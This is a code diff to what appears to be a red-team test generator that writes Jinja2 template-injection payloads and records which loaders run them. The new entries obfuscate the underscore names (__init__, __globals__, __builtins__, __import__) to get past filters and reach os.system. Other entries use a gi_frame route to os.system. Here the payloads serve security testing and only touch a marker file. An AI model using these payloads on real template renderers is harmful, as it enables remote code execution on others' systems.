@@ -63,6 +63,23 @@ TEMPLATES = {
                        '|map("attr", b)|first)[c][d]' + _SYSTEM + " }}",
     "groupby_grouper": "{% set p = " + _PATH + " %}{{ ([namespace]|groupby(p)|first).grouper"
                        + _SYSTEM + " }}",
+    "item_keyword_names": "{% set a = " + _KW.format("__init__") + " %}{% set b = "
+                          + _KW.format("__globals__") + " %}{% set c = "
+                          + _KW.format("__builtins__") + " %}{% set d = "
+                          + _KW.format("__import__") + " %}{{ namespace[a][b][c][d]"
+                          + _SYSTEM + " }}",
+    "item_percent_c": '{% set u = ("%" ~ "c") % 95 %}{% set d = u ~ u %}{% set a = d ~ "init" ~ d %}'
+                      '{% set b = d ~ "globals" ~ d %}{% set c = d ~ "builtins" ~ d %}'
+                      '{% set e = d ~ "imp" ~ "ort" ~ d %}{{ namespace[a][b][c][e]' + _SYSTEM
+                      + " }}",
+    "item_underscore_var": '{% set u = "_" %}{% set a = u ~ u ~ "init" ~ u ~ u %}'
+                           '{% set b = u ~ u ~ "globals" ~ u ~ u %}{% set c = u ~ u ~ "builtins" ~ u ~ u %}'
+                           '{% set d = u ~ u ~ "imp" ~ "ort" ~ u ~ u %}{{ namespace[a][b][c][d]'
+                           + _SYSTEM + " }}",
+    "item_macro_param": "{% macro run(o, a, b, c, d) %}{{ o[a][b][c][d]" + _SYSTEM
+                        + ' }}{% endmacro %}{% set u = "_" %}{{ run(namespace, '
+                        'u ~ u ~ "init" ~ u ~ u, u ~ u ~ "globals" ~ u ~ u, '
+                        'u ~ u ~ "builtins" ~ u ~ u, u ~ u ~ "imp" ~ "ort" ~ u ~ u) }}',
     "gi_frame": '{{ ([1]|map("string")).gi_frame.f_globals.typing.sys.modules.os'
                 '.system("touch ' + MARKER + '") }}',
     "gi_frame_item": '{{ ([1]|map("string")).gi_frame.f_globals.typing.sys.modules["o" ~ "s"]'
@@ -328,8 +345,13 @@ def main() -> None:
     Path(ELSEWHERE, "configuration_x.py").write_text(PAYLOAD_PY + CONFIG_PY.format(
         imp="from json import dumps"))
     truth: dict[str, dict[str, str]] = {}
+    # --reuse: keep the recorded rows of files already in the truth (the writers here are
+    # deterministic: the same bytes), run the loaders on the new ones only
+    old = json.loads((HERE / "redteam5.truth.json").read_text())["files"] \
+        if "--reuse" in sys.argv else {}
     for path in sorted(OUT.iterdir()):
-        truth[path.name] = {ld: run(ld, path, arg) for ld, arg in loaders_for(path.name)}
+        truth[path.name] = old.get(path.name) or {
+            ld: run(ld, path, arg) for ld, arg in loaders_for(path.name)}
         print(path.name, truth[path.name], flush=True)
     shutil.rmtree(ELSEWHERE)
     hydra = subprocess.run([HYDRA132, "-c", "import hydra; print(hydra.__version__)"],
